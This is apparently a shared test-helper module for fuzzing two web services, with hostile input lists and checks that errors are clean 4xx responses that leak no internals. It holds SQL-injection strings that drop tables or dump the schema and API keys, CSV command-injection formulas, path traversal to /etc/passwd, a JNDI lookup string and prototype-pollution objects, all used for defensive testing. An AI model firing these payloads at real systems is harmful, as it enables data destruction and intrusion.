// Shared tools of the reliability and security suite (both services): a database snapshot, the operations of
// an app's OpenAPI registry with their zod schemas, fast-check mutations of valid requests, hostile strings,
// checks that an error is a clean 4xx in the service's envelope, and a console capture.
import { runInDurableObject } from "cloudflare:test";
import fc from "fast-check";
import type { OpenAPIHono } from "@hono/zod-openapi";
import { expect, vi } from "vitest";
import type { z } from "zod";
import { sha256Hex } from "../../src/platform/crypto";
import type { KeyGuard } from "../../src/platform/keys/guard";
import { dataTables } from "../data-tables";
import { documentedErrorCodes } from "../openapi-rules";

// ---------------------------------------------------------------------------------------------- database

export type DbSnapshot = Record<string, { rows: number; hash: string }>;

/** Row count and a hash of every row of every table (migrations bookkeeping excluded). */
export async function dbSnapshot(db: D1Database): Promise<DbSnapshot> {
  const tables = await dataTables(db);
  const reads = await db.batch(tables.map((name) => db.prepare(`SELECT * FROM "${name}"`)));
  const snapshot: DbSnapshot = {};
  for (const [i, table] of tables.entries()) {
    const rows = (reads[i]!.results as Record<string, unknown>[]).map((row) => JSON.stringify(row)).sort();
    snapshot[table] = { rows: rows.length, hash: (await sha256Hex(rows.join("\n"))).slice(0, 16) };
  }
  return snapshot;
}

/** Every row of every table as text, to search for secrets that must never be stored in the clear. */
export async function dbDump(db: D1Database): Promise<string> {
  const tables = await dataTables(db);
  const reads = await db.batch(tables.map((name) => db.prepare(`SELECT * FROM "${name}"`)));
  return tables.map((name, i) => `## ${name}\n${reads[i]!.results.map((r) => JSON.stringify(r)).join("\n")}`).join("\n");
}

// ---------------------------------------------------------------------------------------------- OpenAPI

export interface Operation {
  method: string;
  /** OpenAPI form: `/api/v1/profiles/{id}`. */
  path: string;
  key: string;
  params: z.ZodObject | null;
  query: z.ZodObject | null;
  /** JSON body schema, when the operation takes one. */
  body: z.ZodType | null;
  bodyTypes: string[];
  /** The body is documented as optional (`required: false`). */
  bodyOptional: boolean;
  /** The statuses its responses declare (`"200"`, `"404"`, …): a generated client knows only these. */
  statuses: string[];
  /** The error codes the committed document states for it, each with its status (null when no document was given). */
  codes: ReadonlyMap<string, number> | null;
}

/**
 * The operations the app documents, with the very zod schemas its validators run, and, given the committed OpenAPI
 * document, the error codes it states for each.
 */
export function operationsOf(app: OpenAPIHono<any>, committed?: string): Operation[] {
  const documented = committed === undefined ? null : documentedErrorCodes(JSON.parse(committed));
  const out: Operation[] = [];
  for (const definition of app.openAPIRegistry.definitions as any[]) {
    if (definition.type !== "route") continue;
    const route = definition.route;
    const content = route.request?.body?.content ?? {};
    out.push({
      method: String(route.method).toUpperCase(),
      path: route.path,
      key: `${String(route.method).toUpperCase()} ${route.path}`,
      params: route.request?.params ?? null,
      query: route.request?.query ?? null,
      body: content["application/json"]?.schema ?? null,
      bodyTypes: Object.keys(content),
      bodyOptional: route.request?.body?.required === false,
      statuses: Object.keys(route.responses ?? {}),
      codes: documented?.get(`${String(route.method).toUpperCase()} ${route.path}`) ?? null,
    });
  }
  return out;
}

/** The committed OpenAPI document states `code` for the operation under `status`: a client switching on it finds it there. */
export function expectDocumentedCode(op: Operation, status: number, code: string | null, context: string): void {
  if (op.codes === null) throw new Error(`${op.key}: operationsOf was given no committed document`);
  const documented = [...op.codes].map(([c, s]) => `${s} ${c}`).join(", ");
  expect(op.codes.get(code ?? ""), `${context} -> ${status} ${code}: ${op.key} documents only ${documented}`).toBe(status);
}

export function fillPath(path: string, params: Record<string, string>, encode = true): string {
  return path.replace(/\{(\w+)\}/g, (_, name: string) => {
    const value = params[name];
    if (value === undefined) throw new Error(`no value for {${name}} in ${path}`);
    return encode ? encodeURIComponent(value) : value;
  });
}

/** The query object exactly as hono's validator builds it: a repeated name becomes an array. */
export function honoQuery(search: URLSearchParams): Record<string, string | string[]> {
  const grouped = new Map<string, string[]>();
  for (const [name, value] of search) grouped.set(name, [...(grouped.get(name) ?? []), value]);
  return Object.fromEntries([...grouped].map(([k, v]) => [k, v.length === 1 ? v[0]! : v]));
}

// ---------------------------------------------------------------------------------------------- hostile values

export const SQL_INJECTION = [
  "'; DROP TABLE accounts; --",
  "' OR '1'='1",
  "1; DELETE FROM profiles WHERE 1=1",
  '" OR 1=1 --',
  "') UNION SELECT name, sql FROM sqlite_master --",
  "%' AND 1=0 UNION SELECT * FROM api_keys --",
];
export const CSV_INJECTION = ["=cmd|' /C calc'!A0", "+SUM(1,1)", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"];
export const PATH_TRAVERSAL = ["..%2F..%2Fetc%2Fpasswd", "../../etc/passwd", "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2f", "....//....//"];
export const NUMERIC_NASTIES = [
  "NaN",
  "Infinity",
  "-Infinity",
  "1e999",
  "-1e999",
  "0x10",
  "1e308",
  "9".repeat(400),
  "-0",
  "١٢٣",
  "1_000",
  " 5",
  "5 ",
  "+5",
  ".5",
  "5.",
  "1,5",
  "0b11",
];
export const ODD_STRINGS = [
  "",
  " ",
  "\u0000",
  "a\u0000b",
  "\u202e\u0041",
  "\ud800",
  "\udfff\ud800",
  "<script>alert(1)</script>",
  "${jndi:ldap://x.example/a}",
  "{{7*7}}",
  "\u0085\u2028\u2029",
  "𝕏".repeat(300),
  "x".repeat(70_000),
];

export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...SQL_INJECTION, ...CSV_INJECTION, ...PATH_TRAVERSAL, ...NUMERIC_NASTIES, ...ODD_STRINGS) },
  { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 40 }) },
);

export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 3, arbitrary: hostileString },
  {
    weight: 3,
    arbitrary: fc.constantFrom<unknown>(
      null,
      true,
      false,
      0,
      -1,
      -0.5,
      1e308,
      -1e308,
      2 ** 53 + 1,
      -(2 ** 63),
      1e21,
      5e-324,
      [],
      {},
      [[[[]]]],
      { ["__proto__"]: { polluted: true } },
      { constructor: { prototype: { polluted: true } } },
    ),
  },
  { weight: 1, arbitrary: fc.double() },
  { weight: 1, arbitrary: fc.anything({ maxDepth: 3, maxKeys: 4 }) },
);

type Path = Array<string | number>;

function pathsOf(value: unknown, at: Path = []): Path[] {
  const out: Path[] = [at];
  if (Array.isArray(value)) value.forEach((v, i) => out.push(...pathsOf(v, [...at, i])));
  else if (value !== null && typeof value === "object") for (const [k, v] of Object.entries(value)) out.push(...pathsOf(v, [...at, k]));
  return out;
}

function objectPaths(value: unknown, at: Path = []): Path[] {
  if (Array.isArray(value)) return value.flatMap((v, i) => objectPaths(v, [...at, i]));
  if (value !== null && typeof value === "object") return [at, ...Object.entries(value).flatMap(([k, v]) => objectPaths(v, [...at, k]))];
  return [];
}

export type BodyMutation =
  | { kind: "replace"; path: Path; value: unknown }
  | { kind: "delete"; path: Path }
  | { kind: "add"; path: Path; name: string; value: unknown }
  | { kind: "raw"; path: Path; token: string };

/** One edit of a valid JSON body: a value replaced, a field dropped or added, or a number written as a raw token. */
export function bodyMutation(valid: unknown): fc.Arbitrary<BodyMutation> {
  const all = pathsOf(valid);
  const keyed = all.filter((p) => typeof p[p.length - 1] === "string");
  const objects = objectPaths(valid);
  const options: Array<fc.Arbitrary<BodyMutation>> = [
    fc.record({ kind: fc.constant("replace" as const), path: fc.constantFrom(...all), value: hostileValue }),
    fc.record({
      kind: fc.constant("raw" as const),
      path: fc.constantFrom(...all),
      token: fc.constantFrom(...NUMERIC_NASTIES.filter((t) => t.trim() === t && t !== "")),
    }),
  ];
  if (keyed.length > 0) options.push(fc.record({ kind: fc.constant("delete" as const), path: fc.constantFrom(...keyed) }));
  if (objects.length > 0) {
    options.push(
      fc.record({
        kind: fc.constant("add" as const),
        path: fc.constantFrom(...objects),
        name: fc.constantFrom("__proto__", "constructor", "isAdmin", "ownerId", "org_id", "id", "plan"),
        value: hostileValue,
      }),
    );
  }
  return fc.oneof(...options);
}

const RAW_MARK = "\u0001raw\u0001";

/** The request text of a mutated body (raw tokens go into the JSON text unquoted). */
export function applyBodyMutation(valid: unknown, mutation: BodyMutation): string {
  const marker = `${RAW_MARK}${crypto.randomUUID()}`;
  const value = mutation.kind === "replace" ? mutation.value : mutation.kind === "raw" ? marker : undefined;
  const copy = structuredClone(valid) as any;
  let root = copy;
  if (mutation.path.length === 0 && mutation.kind !== "add") {
    root = value;
  } else if (mutation.kind === "add") {
    let target = copy;
    for (const part of mutation.path) target = target[part];
    Object.defineProperty(target, mutation.name, { value: mutation.value, enumerable: true, configurable: true, writable: true });
  } else {
    let parent = copy;
    for (const part of mutation.path.slice(0, -1)) parent = parent[part];
    const last = mutation.path[mutation.path.length - 1]!;
    if (mutation.kind === "delete") delete parent[last];
    else parent[last] = value;
  }
  const text = JSON.stringify(root) ?? "";
  return mutation.kind === "raw" ? text.replace(`"${marker}"`, mutation.token) : text;
}

/** Would the route's own validator accept this JSON text? (The oracle: a rejected body must change nothing.) */
export async function acceptedBy(schema: z.ZodType | null, text: string): Promise<boolean> {
  let value: unknown;
  try {
    value = JSON.parse(text);
  } catch {
    return false;
  }
  if (!schema) return true;
  return (await schema.safeParseAsync(value)).success;
}

export function deeplyNested(levels: number, kind: "array" | "object" = "array"): string {
  return kind === "array" ? `${"[".repeat(levels)}${"]".repeat(levels)}` : `${'{"a":'.repeat(levels)}1${"}".repeat(levels)}`;
}

export const INVALID_UTF8 = new Uint8Array([0x7b, 0x22, 0x61, 0x22, 0x3a, 0x22, 0xc3, 0x28, 0xff, 0xfe, 0x22, 0x7d]); // {"a":"\xC3(\xFF\xFE"}

// ---------------------------------------------------------------------------------------------- responses

/** What must never reach a client: database errors, SQL, stack frames, source paths. */
// Case-sensitive: services may echo a client's own text (an id such as `' UNION SELECT … sqlite_master`).
const LEAKS =
  /SQLITE_[A-Z]|D1_[A-Z]+_?ERROR|D1_ERROR|no such (table|column)|constraint failed|syntax error|near "[^"]*": |\bat [\w.<>]+ \(|\.ts:\d+|\.js:\d+|node_modules|workerd|TypeError|ReferenceError|RangeError|SyntaxError/;

export function expectNoLeak(text: string): void {
  expect(text, "response leaks internals").not.toMatch(LEAKS);
}

export type Envelope = "tax" | "inventory";

/** A 4xx (never 5xx) in the service's envelope, without internals; returns the error code. */
export async function expectClean4xx(response: Response, envelope: Envelope, context: string): Promise<string> {
  const text = await response.text();
  const where = `${context} -> ${response.status} ${text.slice(0, 300)}`;
  expect(response.status, where).toBeGreaterThanOrEqual(400);
  expect(response.status, where).toBeLessThan(500);
  return checkEnvelope(response, text, envelope, where);
}

export function checkEnvelope(response: Response, text: string, envelope: Envelope, where: string): string {
  expect(response.headers.get("Content-Type") ?? "", where).toMatch(/^application\/json/);
  let body: any;
  try {
    body = JSON.parse(text);
  } catch {
    throw new Error(`not JSON: ${where}`);
  }
  expectNoLeak(text);
  if (envelope === "tax") {
    expect(Object.keys(body).sort(), where).toEqual(["error", "requestId"]);
    expect(Object.keys(body.error).sort(), where).toEqual(["code", "message"]);
    expect(typeof body.error.code, where).toBe("string");
    expect(typeof body.error.message, where).toBe("string");
    expect(body.requestId, where).toBe(response.headers.get("X-Request-Id"));
    return body.error.code;
  }
  expect(Object.keys(body).sort(), where).toEqual(["code", "error"]);
  expect(typeof body.error, where).toBe("string");
  expect(typeof body.code, where).toBe("string");
  return body.code;
}

/** Any status but 5xx; errors in the envelope. For inputs the schema accepts, whose outcome depends on data. */
export async function expectNot5xx(response: Response, envelope: Envelope, context: string): Promise<number> {
  const text = await response.text();
  const where = `${context} -> ${response.status} ${text.slice(0, 300)}`;
  expect(response.status, where).toBeLessThan(500);
  if (response.status >= 400) checkEnvelope(response, text, envelope, where);
  return response.status;
}

// ---------------------------------------------------------------------------------------------- console

/**
 * Captures everything written through console.* in this isolate (the Worker runs in it too). `lineWith` is the first
 * line that holds a given text (a request id, say), or "" when none does.
 */
export function captureConsole(): { text: () => string; lineWith: (needle: string) => string; restore: () => void } {
  const lines: string[] = [];
  const spies = (["log", "info", "warn", "error", "debug", "trace"] as const).map((level) =>
    vi.spyOn(console, level).mockImplementation((...args: unknown[]) => {
      lines.push(
        args.map((a) => (typeof a === "string" ? a : a instanceof Error ? `${a.name}: ${a.message} ${a.stack ?? ""}` : safeJson(a))).join(" "),
      );
    }),
  );
  return {
    text: () => lines.join("\n"),
    lineWith: (needle) => lines.find((line) => line.includes(needle)) ?? "",
    restore: () => spies.forEach((s) => s.mockRestore()),
  };
}

/**
 * A signed-in page that answered 503 because one management call failed: the line an operator finds from the
 * X-Request-Id the user quotes names the failing call (`path`), whose own line holds the cause.
 */
export function expectDashboardCallLogged(response: Response, logs: ReturnType<typeof captureConsole>, path: string): void {
  const requestId = response.headers.get("X-Request-Id")!;
  const line = logs.lineWith(requestId);
  expect(line, logs.text()).toMatch(/^dashboard call failed {/);
  const logged = JSON.parse(line.slice(line.indexOf("{")));
  expect(logged).toEqual({ requestId, innerRequestId: expect.stringMatching(/^req_/), path, status: 500 });
  expect(logs.lineWith(logged.innerRequestId)).toContain("D1_ERROR: Network connection lost.");
}

function safeJson(value: unknown): string {
  try {
    return JSON.stringify(value) ?? String(value);
  } catch {
    return String(value);
  }
}

/** fast-check settings for the HTTP properties: modest, reproducible from the printed seed. */
export const RUNS = { numRuns: 40, endOnFailure: true } as const;

// ---------------------------------------------------------------------------------------------- rate limits

/**
 * Runs `fn` inside a key's Durable Object, with its instance and its state: a clock we cannot wait for, a
 * restart, or more calls than HTTP needs.
 */
export function inKeyGuard<T>(guard: DurableObjectStub<KeyGuard>, fn: (instance: KeyGuard, state: DurableObjectState) => T): Promise<T> {
  return runInDurableObject(guard, (instance, state) => fn(instance as unknown as KeyGuard, state)) as Promise<T>;
}

/**
 * Holds the next management write of a key's state (put or applyPolicy) in its Durable Object until
 * `release()`: the write was decided before whatever the test does meanwhile and lands after it, an
 * interleaving that timing alone produces only rarely. `held()` waits until the write has arrived. The
 * object's class is patched from inside it (RPC reaches methods on the prototype only), for one write only.
 * The two sides share flags, not promises: a promise settled in the object would carry on the test there.
 */
export async function holdNextStateWrite(guard: DurableObjectStub<KeyGuard>): Promise<{ held: () => Promise<void>; release: () => void }> {
  const flags = { arrived: false, released: false };
  await inKeyGuard(guard, (target) => {
    const prototype = Object.getPrototypeOf(target) as Record<string, unknown>;
    const names = ["put", "applyPolicy"].filter((name) => typeof prototype[name] === "function");
    const originals = new Map(names.map((name) => [name, prototype[name] as (...args: unknown[]) => Promise<unknown>]));
    for (const [name, original] of originals) {
      prototype[name] = async function (this: KeyGuard, ...args: unknown[]) {
        if (this !== target) return original.apply(this, args);
        for (const [restored, method] of originals) prototype[restored] = method;
        flags.arrived = true;
        while (!flags.released) await new Promise((resolve) => setTimeout(resolve, 5));
        return original.apply(this, args);
      };
    }
  });
  return {
    held: async () => {
      await vi.waitUntil(() => flags.arrived, { timeout: 60_000, interval: 5 });
    },
    release: () => {
      flags.released = true;
    },
  };
}

/** Waits out the last 12 s of a minute, so a burst and its set-up fall inside one rate-limit window. */
export async function roomInThisMinute(): Promise<void> {
  await vi.waitUntil(() => Date.now() % 60_000 <= 48_000, { timeout: 60_000, interval: 50 });
}

/**
 * Spends all but 30 of a key's minute inside its guard, then sends 50 requests at once: exactly 30 must
 * pass and 20 get 429 with Retry-After equal to the seconds left until X-RateLimit-Reset.
 */
export async function burstAcrossTheLimit(options: {
  guard: DurableObjectStub<KeyGuard>;
  limit: number;
  send: () => Promise<Response>;
  limitedCode: (response: Response, text: string) => void;
}): Promise<void> {
  await roomInThisMinute();
  await inKeyGuard(options.guard, (instance) => {
    for (let i = 0; i < options.limit - 30; i++) {
      const verdict = instance.authorize(Date.now(), []);
      if (verdict.outcome !== "allowed") throw new Error(`pre-spend stopped at ${i}: ${verdict.outcome}`);
    }
  });
  const sentAt = Date.now() / 1000;
  const responses = await Promise.all(Array.from({ length: 50 }, () => options.send()));
  const answeredBy = Date.now() / 1000;
  const statuses = responses.map((r) => r.status);
  expect(statuses.filter((s) => s === 200).length, statuses.join(",")).toBe(30);
  expect(statuses.filter((s) => s === 429).length, statuses.join(",")).toBe(20);
  for (const response of responses) {
    const text = await response.text();
    expect(response.headers.get("X-RateLimit-Limit")).toBe(String(options.limit));
    if (response.status !== 429) continue;
    options.limitedCode(response, text);
    const retryAfter = Number(response.headers.get("Retry-After"));
    const reset = Number(response.headers.get("X-RateLimit-Reset"));
    expect(response.headers.get("X-RateLimit-Remaining")).toBe("0");
    expect(retryAfter).toBeGreaterThanOrEqual(1);
    expect(retryAfter).toBeLessThanOrEqual(60);
    // Retry-After points at the window's reset: reset - Retry-After is the moment the server answered (rounded to
    // a second either way), which lies between sending and the last answer, however slow the machine is.
    expect(reset - retryAfter).toBeGreaterThanOrEqual(Math.floor(sentAt) - 1);
    expect(reset - retryAfter).toBeLessThanOrEqual(Math.ceil(answeredBy) + 1);
  }
}

/** D1 during an outage: the binding is there, and every query it is given fails. */
export function unreachableDatabase(): D1Database {
  const fails = () => Promise.reject(new Error("D1_ERROR: Network connection lost."));
  const statement: D1PreparedStatement = { bind: () => statement, first: fails, run: fails, all: fails, raw: fails };
  const session: D1DatabaseSession = { prepare: () => statement, batch: fails, getBookmark: () => null };
  return { prepare: () => statement, batch: fails, exec: fails, dump: fails, withSession: () => session };
}

/** The test database, except that every statement whose SQL matches `failing` fails as a lost connection would. */
export function databaseFailing(db: D1Database, failing: RegExp): D1Database {
  const fails = () => Promise.reject(new Error("D1_ERROR: Network connection lost."));
  // D1's objects are native: their own methods must run on them, not on the proxy.
  const own = (target: object, name: PropertyKey) => {
    const value = Reflect.get(target, name);
    return typeof value === "function" ? value.bind(target) : value;
  };
  const failingStatement = (statement: D1PreparedStatement): D1PreparedStatement =>
    new Proxy(statement, {
      get: (target, name) =>
        name === "bind"
          ? (...values: unknown[]) => failingStatement(target.bind(...values))
          : ["first", "all", "run", "raw"].includes(String(name))
            ? fails
            : own(target, name),
    });
  return new Proxy(db, {
    get: (target, name) =>
      name === "prepare" ? (sql: string) => (failing.test(sql) ? failingStatement(target.prepare(sql)) : target.prepare(sql)) : own(target, name),
  });
}
